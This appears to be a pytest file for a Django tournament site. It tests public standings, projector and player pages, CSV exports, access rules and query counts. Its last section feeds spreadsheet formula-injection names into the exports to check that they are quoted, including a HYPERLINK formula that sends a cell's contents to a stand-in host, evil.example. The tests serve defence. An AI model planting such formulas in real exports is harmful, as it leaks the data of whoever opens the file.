"""The tournaments' public pages: read by anyone without signing in, GET only, the standings
as the rules write them, the CSV exports, and a fixed number of queries however big the
tournament is (docs/rules/tournaments.md)."""

import csv
import datetime
import io
import json
import re
from urllib.parse import quote

import pytest
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from tests.support import EXAMPLES
from tests.support.rules_pages import Tree
from tests.support.tournaments import example, import_text, variety_row
from tournaments import document, selectors, services
from tournaments.models import Bye, Round, RoundTable, TableSeat

PAGES = [
    "tournament",
    "tournament-standings",
    "tournament-projector",
    "tournament-standings-csv",
    "tournament-sheets-csv",
]


def import_example(name: str):
    return import_text((EXAMPLES / f"{name}.json").read_text(encoding="utf-8"))


@pytest.fixture
def fantan(db):
    """Seven players, a table of four and one of three each round: halves, a shared 5th."""
    return import_example("fantan-seven")


@pytest.fixture
def variety(db):
    """Five players, short cycles, a bye each round, a shared first place."""
    return import_example("variety-five")


def get(client, name: str, *args, language: str = "en"):
    return client.get(reverse(name, args=args), HTTP_ACCEPT_LANGUAGE=language)


def text(response) -> str:
    return response.content.decode()


# -- the standings ---------------------------------------------------------------------------


def test_the_standings_page_shows_every_place_a_shared_place_as_a_range_and_halves(client, fantan):
    expected = json.loads((EXAMPLES / "fantan-seven.standings.json").read_text("utf-8"))
    page = text(get(client, "tournament-standings", fantan.key))
    for row in expected:
        assert row["player"] in page
    assert "5–6" in page  # Никита and Zed share the fifth place
    assert ">7<" in page  # Heidi, alone in 7th
    assert "9.5" in page and "5.5" in page and "3.5" in page  # match points with a half
    assert "9,5" in text(get(client, "tournament-standings", fantan.key, language="ru"))


def test_the_standings_page_shows_a_shared_first_place_and_the_byes_round_by_round(client, variety):
    page = text(get(client, "tournament-standings", variety.key))
    assert page.count(">1–2<") == 4  # Trent and Жанна: the standings and round by round
    assert "Round 1" in page and "Round 2" in page
    assert "bye" in page  # Mallory's and Victor's byes


def test_the_standings_csv_is_the_standings_as_csv_and_downloads_as_an_attachment(client, fantan):
    response = get(client, "tournament-standings-csv", fantan.key)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    assert "-standings.csv" in response["Content-Disposition"]
    assert text(response) == selectors.standings(fantan).as_csv()
    rows = list(csv.DictReader(io.StringIO(text(response))))
    assert [row["place"] for row in rows] == ["1", "2", "3", "4", "5", "5", "7"]
    assert rows[1]["match_points"] == "9.5"


def test_the_sheets_csv_has_a_header_and_one_line_per_sheet_row(client, fantan):
    response = get(client, "tournament-sheets-csv", fantan.key)
    assert response["Content-Disposition"].startswith("attachment;")
    assert "-sheets.csv" in response["Content-Disposition"]
    lines = list(csv.reader(io.StringIO(text(response))))
    doc = example("fantan-seven")
    assert lines[0] == [
        "round",
        "table",
        "row",
        "player_1",
        "player_2",
        "player_3",
        "player_4",
        "points_1",
        "points_2",
        "points_3",
        "points_4",
    ]
    assert len(lines) - 1 == sum(len(t["rows"]) for r in doc["rounds"] for t in r["tables"])
    first = doc["rounds"][0]["tables"][0]
    assert lines[1][:7] == ["1", "1", "1", *first["players"]]
    # the first out scores 1 (Фантан's default scoring): seat 1 went out first
    assert lines[1][7:] == ["0", "1", "0", "0"]
    three = doc["rounds"][0]["tables"][1]
    assert lines[3][:7] == ["1", "2", "1", *three["players"], ""]
    assert lines[3][-1] == ""


def test_the_sheets_csv_of_a_variety_tournament_gives_each_seats_figure(client, variety):
    lines = list(csv.reader(io.StringIO(text(get(client, "tournament-sheets-csv", variety.key)))))
    row = example("variety-five")["rounds"][1]["tables"][0]["rows"][0]
    assert lines[5][7:] == [str(figure) for figure in row["scores"]]
    assert len(lines) == 1 + 8


# -- the projector and the tournament page ---------------------------------------------------


def projector_tables(page: str) -> list[tuple[str, str, list[str]]]:
    """Each table the projector shows: its heading, its state, its players in seat order."""
    shown = []
    for item in Tree(page).root.find_all("ol", class_="projector-tables")[0].children:
        if isinstance(item, str):
            continue
        (head,) = item.find_all(class_="table-number")
        (state,) = item.find_all(class_="state")
        players = [
            next(c for c in li.children if isinstance(c, str)).strip()
            for li in item.find_all("ul", class_="players")[0].find_all("li")
        ]
        shown.append((head.text(), state.text(), players))
    return shown


def test_the_projector_shows_the_standings_and_the_current_rounds_tables(client, fantan):
    page = text(get(client, "tournament-projector", fantan.key))
    # it follows the results live (tests/tables/test_live.py), with nothing to reload by hand
    assert f'data-live="/ws/tournaments/{quote(fantan.key, safe="")}/"' in page
    assert 'class="site"' not in page  # no site header
    assert "5–6" in page and "9.5" in page
    assert "Round 2" in page and "Round 1" not in page
    last = example("fantan-seven")["rounds"][-1]["tables"]
    assert projector_tables(page) == [
        ("Table 1", "counts", last[0]["players"]),
        ("Table 2", "counts", last[1]["players"]),
    ]
    for name in example("fantan-seven")["players"]:
        assert f'<th scope="row">{name}</th>' in page  # every entrant's standing


def twelve(**changes) -> dict:
    """Twelve players of Выборы in three tables a round: round 1 played, round 2 under way
    (table 1 complete, table 2 two deals into its short cycle, table 3 not begun)."""
    names = [f"Игрок {n}" for n in range(1, 13)]
    round_2 = [4, 2, 0]
    doc = {
        "tournament": "Клубный вечер",
        "game": "variety",
        "options": {"cycle": "short"},
        "rounds_planned": 3,
        "players": names,
        "rounds": [
            {
                "tables": [
                    {
                        "players": names[4 * t : 4 * t + 4],
                        "rows": [variety_row(t + k) for k in range(filled)],
                    }
                    for t, filled in enumerate(played)
                ],
                "byes": [],
            }
            for played in ([4, 4, 4], round_2)
        ],
    }
    return {**doc, **changes}


@pytest.mark.parametrize(
    "confirmation, first", [(False, "counts"), (True, "awaiting confirmation")]
)
def test_the_projector_shows_each_tables_state_and_its_deals_so_far(
    client, db, confirmation, first
):
    tournament = import_text(json.dumps(twelve()))
    tournament.confirmation = confirmation  # imported sheets have no second scorer
    tournament.save()
    page = text(get(client, "tournament-projector", tournament.key))
    assert [(number, state) for number, state, _players in projector_tables(page)] == [
        ("Table 1", first),
        ("Table 2", "2 of 4 deals"),
        ("Table 3", "playing"),
    ]


def test_a_match_to_a_target_shows_its_deals_without_a_total(client, db):
    names = ["Анна", "Борис", "Вера", "Глеб"]
    row = {"scores": [4, 10], "ender": 1}  # 14 of the 33 the match is played to
    tournament = import_text(
        json.dumps(
            {
                "tournament": "Леопард до 33",
                "game": "leopard",
                "options": {"target": 33},
                "players": names,
                "rounds": [
                    {
                        "tables": [
                            {"players": names[:2], "rows": [row, row]},
                            {"players": names[2:], "rows": [row]},
                        ],
                        "byes": [],
                    }
                ],
            }
        )
    )
    page = text(get(client, "tournament-projector", tournament.key))
    assert [state for _number, state, _players in projector_tables(page)] == ["2 deals", "1 deal"]


def test_the_projector_swaps_its_updates_in_at_once_as_every_page_does(client, fantan):
    # htmx's settings of every page (no settle delay after a swap), not its defaults
    projector = text(get(client, "tournament-projector", fantan.key))
    standings = text(get(client, "tournament-standings", fantan.key))
    config = re.compile(r"<meta name=\"htmx-config\" content='([^']*)'>")
    settings = [json.loads(config.search(page)[1]) for page in (projector, standings)]
    assert settings[0] == settings[1]
    assert settings[0]["defaultSettleDelay"] == 0


def test_the_projector_reads_eight_queries(client, variety, django_assert_num_queries):
    get(client, "tournament-projector", variety.key)  # warm up (translations, templates)
    with django_assert_num_queries(8):
        assert get(client, "tournament-projector", variety.key).status_code == 200


def test_the_projectors_standings_are_in_columns_as_even_as_can_be(client, big):
    from tournaments.public.views import in_columns

    assert [len(c) for c in in_columns(list(range(40)), 14)] == [14, 14, 12]
    assert [len(c) for c in in_columns(list(range(8)), 14)] == [8]
    assert in_columns([], 14) == [[]]
    page = Tree(text(get(client, "tournament-projector", big.key))).root
    columns = [len(c.find_all("tr")) - 1 for c in page.find_all("table", class_="standings")]
    assert len(columns) > 1 and sum(columns) == 200  # 200 entrants
    assert max(columns) - min(columns) < len(columns)


def test_the_tournaments_date_is_on_its_pages_and_in_its_document(client, db):
    tournament = import_text(json.dumps({**example("variety-five"), "date": "2025-03-08"}))
    assert tournament.date == datetime.date(2025, 3, 8)
    for name in ("tournament", "tournament-standings", "tournament-projector", "tournament-round"):
        args = (tournament.key, 1) if name == "tournament-round" else (tournament.key,)
        page = text(get(client, name, *args))
        assert '<time datetime="2025-03-08">March 8, 2025</time>' in page, name
    assert '<time datetime="2025-03-08">March 8, 2025</time>' in text(get(client, "tournaments"))
    player = tournament.entrants.first().player_id
    assert "March 8, 2025" in text(get(client, "player", player))
    assert "8 марта 2025" in text(get(client, "tournament", tournament.key, language="ru"))
    exported = selectors.document_of(tournament).to_json()
    assert exported["date"] == "2025-03-08"
    assert document.read(json.dumps(exported)).date == datetime.date(2025, 3, 8)


def test_a_document_without_a_date_is_dated_today_and_a_bad_date_is_refused(db):
    tournament = import_example("variety-five")
    assert tournament.date == timezone.localdate()
    for bad in ("8.3.2025", "2025-02-30", 20250308, "20250308"):
        with pytest.raises(document.NotADocument, match="date"):
            document.read(json.dumps({**example("variety-five"), "date": bad}))


def test_the_list_puts_the_latest_date_first(client, db):
    older = import_text(json.dumps({**example("fantan-seven"), "date": "2024-05-01"}))
    newer = import_text(json.dumps({**example("variety-five"), "date": "2025-05-01"}))
    page = text(get(client, "tournaments"))
    assert page.index(newer.name) < page.index(older.name)
    reimported = import_text(
        json.dumps({**example("variety-five"), "tournament": "Старый", "date": "2020-01-01"})
    )
    page = text(get(client, "tournaments"))
    assert page.index(older.name) < page.index(reimported.name)  # created last, dated first


def test_the_tournament_page_lists_settings_entrants_rounds_tables_and_byes(client, variety):
    page = text(get(client, "tournament", variety.key))
    assert "72006" in page  # the seed
    assert "short: four deals, each player deals once" in page
    assert "Round 1" in page and "Round 2" in page and "Table 1" in page
    assert "Byes:" in page and "Mallory" in page and "Victor" in page
    for name in example("variety-five")["players"]:
        assert name in page
    assert '<td class="num">28</td>' in page  # Rupert's game points at his table of round 2


def test_the_tournament_page_marks_tables_not_yet_counted(client, db):
    doc = example("variety-five")
    doc["rounds"][1]["tables"][0]["rows"] = doc["rounds"][1]["tables"][0]["rows"][:2]
    tournament = import_text(json.dumps(doc))
    page = text(get(client, "tournament", tournament.key))
    assert "incomplete" in page
    tournament.confirmation = True  # the first table's typed sheet awaits a second scorer
    tournament.save()
    page = text(get(client, "tournament", tournament.key))
    assert "awaiting confirmation" in page


def test_a_draft_round_is_not_shown_to_the_public(client, variety):
    draft = Round.objects.create(tournament=variety, number=3, released=False)
    entrants = list(variety.entrants.order_by("number"))
    table = RoundTable.objects.create(round=draft, number=1)
    TableSeat.objects.bulk_create(
        TableSeat(table=table, position=k, entrant=e) for k, e in enumerate(entrants[:4])
    )
    Bye.objects.create(round=draft, entrant=entrants[4])
    variety.rounds_planned = 3
    variety.save()
    assert "Round 3" not in text(get(client, "tournament", variety.key))
    assert "Round 3" not in text(get(client, "tournament-standings", variety.key))
    csv_text = text(get(client, "tournament-standings-csv", variety.key))
    expected = json.loads((EXAMPLES / "variety-five.standings.json").read_text("utf-8"))
    assert [int(row["match_points"]) for row in csv.DictReader(io.StringIO(csv_text))] == [
        row["match_points"] for row in expected
    ]  # the draft's bye counts for nothing yet


def test_the_list_shows_the_tournaments_newest_first(client, fantan, variety):
    page = text(get(client, "tournaments"))
    assert page.index(variety.name) < page.index(fantan.name)
    assert ">Variety<" in page and ">Fan-Tan<" in page  # each one's game
    assert "2 of 2" in page


def test_a_players_page_shows_his_places_totals_and_rounds(client, fantan, variety):
    zed = fantan.entrants.get(player__name="Zed").player
    page = text(client.get(reverse("player", args=[zed.pk]), HTTP_ACCEPT_LANGUAGE="en"))
    assert fantan.name in page and variety.name not in page
    assert "5–6 of 7" in page
    assert "3.5" in page
    mallory = variety.entrants.get(player__name="Mallory").player
    page = text(client.get(reverse("player", args=[mallory.pk]), HTTP_ACCEPT_LANGUAGE="en"))
    assert "4 of 5" in page and "bye" in page


# -- who may read, and how -------------------------------------------------------------------


def test_a_visitor_reads_every_page_without_signing_in(client, fantan):
    assert get(client, "tournaments").status_code == 200
    for name in PAGES:
        assert get(client, name, fantan.key).status_code == 200, name
    player = fantan.entrants.first().player_id
    assert get(client, "player", player).status_code == 200


def test_the_pages_refuse_a_post(client, fantan):
    assert client.post(reverse("tournaments")).status_code == 405
    for name in PAGES:
        assert client.post(reverse(name, args=[fantan.key])).status_code == 405, name
    player = fantan.entrants.first().player_id
    assert client.post(reverse("player", args=[player])).status_code == 405


@pytest.mark.parametrize("name", PAGES)
def test_an_unknown_tournament_is_the_sites_404_page(client, db, name):
    response = get(client, name, "no-such-tournament")
    assert response.status_code == 404
    assert "There is no such page" in text(response)


def test_an_unknown_player_is_the_sites_404_page(client, db):
    response = get(client, "player", 999999)
    assert response.status_code == 404
    assert "There is no such page" in text(response)


@pytest.mark.parametrize("language,sign_in", [("ru", "Войти"), ("en", "Sign in")])
@pytest.mark.parametrize("name", ["tournament", "tournament-standings", "tournament-projector"])
def test_the_pages_speak_the_readers_language(client, variety, language, sign_in, name):
    response = get(client, name, variety.key, language=language)
    assert f'<html lang="{language}">' in text(response)
    if name != "tournament-projector":  # the projector has no site header
        assert sign_in in text(response)


# -- a fixed number of queries ---------------------------------------------------------------


def big_document(players: int = 200, rounds: int = 8) -> str:
    names = [f"Игрок {n:03d}" for n in range(players)]
    steps = [1, 3, 7, 9, 11, 13, 17, 19]  # each prime to 200: a new order every round
    held = []
    for r in range(rounds):
        order = [names[(n * steps[r] + r) % players] for n in range(players)]
        held.append(
            {
                "tables": [
                    {
                        "players": order[4 * t : 4 * t + 4],
                        "rows": [variety_row(r + 5 * t + k) for k in range(4)],
                    }
                    for t in range(players // 4)
                ],
                "byes": [],
            }
        )
    return json.dumps(
        {
            "tournament": "Большой турнир",
            "game": "variety",
            "options": {"cycle": "short"},
            "rounds_planned": rounds,
            "seating": "mixing",
            "seed": 1,
            "players": names,
            "rounds": held,
        },
        ensure_ascii=False,
    )


@pytest.fixture
def big(db):
    doc = document.read(big_document())  # every row passes the sheet's checks
    assert all(table.complete for round_ in doc.rounds for table in round_.tables)
    return services.import_document(doc=doc)


def queries(client, name: str, *args) -> int:
    with CaptureQueriesContext(connection) as captured:
        assert get(client, name, *args).status_code == 200
    return len(captured.captured_queries)


@pytest.mark.parametrize(
    "name",
    [
        "tournament-standings",
        "tournament-projector",
        "tournament",
        "tournament-standings-csv",
        "tournament-sheets-csv",
    ],
)
def test_a_page_costs_as_many_queries_for_200_entrants_as_for_5(client, variety, big, name):
    assert len(selectors.standings(big)) == 200
    get(client, name, variety.key)  # warm up (translations, templates)
    assert queries(client, name, variety.key) == queries(client, name, big.key)


def test_a_players_page_costs_as_many_queries_for_a_big_tournament(client, variety, big):
    small = variety.entrants.first().player_id
    large = big.entrants.first().player_id
    get(client, "player", small)
    assert queries(client, "player", small) == queries(client, "player", large)


# -- what a spreadsheet opens ------------------------------------------------------------------

HOSTILE = {  # an entrant's name that a spreadsheet would run as a formula
    "Никита": '=HYPERLINK("http://evil.example/?x="&B2,"Eve")',
    "Frank": "+1+1",
    "Лев": "-2+3",
    "Рита": "@SUM(A1)",
}


def renamed(value):
    if isinstance(value, str):
        return HOSTILE.get(value, value)
    if isinstance(value, list):
        return [renamed(item) for item in value]
    if isinstance(value, dict):
        return {key: renamed(item) for key, item in value.items()}
    return value


@pytest.fixture
def hostile(db):
    """The Фантан example with entrants named as formulas, scored by cards: negative
    figures."""
    doc = renamed(example("fantan-seven"))
    doc["options"] = {"scoring": "cards"}
    return import_text(json.dumps(doc))


def assert_no_cell_is_a_formula(csv_text: str) -> None:
    cells = [value for line in csv.reader(io.StringIO(csv_text)) for value in line]
    for name in HOSTILE.values():
        assert name not in cells  # as it came, it would run
        assert f"'{name}" in cells  # quoted, the spreadsheet shows it as text
    for value in cells:
        assert not value.startswith(("=", "+", "@", "\t", "\r")), value
        if value.startswith("-"):  # a number the app wrote stays a number
            float(value)


def test_names_a_spreadsheet_would_run_are_quoted_in_the_standings_and_sheets_csv(client, hostile):
    standings = text(get(client, "tournament-standings-csv", hostile.key))
    sheets = text(get(client, "tournament-sheets-csv", hostile.key))
    for downloaded in (standings, sheets):
        assert_no_cell_is_a_formula(downloaded)
    assert any(value.startswith("-") for value in sheets.replace("\n", ",").split(","))
    lines = list(csv.reader(io.StringIO(sheets)))
    first = [renamed(name) for name in example("fantan-seven")["rounds"][0]["tables"][0]["players"]]
    assert lines[1][3:7] == [f"'{n}" if n in HOSTILE.values() else n for n in first]


def test_names_a_spreadsheet_would_run_are_quoted_in_the_standings_command_csv(hostile):
    out = io.StringIO()
    call_command("tournament", "standings", hostile.key, "--csv", stdout=out)
    assert_no_cell_is_a_formula(out.getvalue())
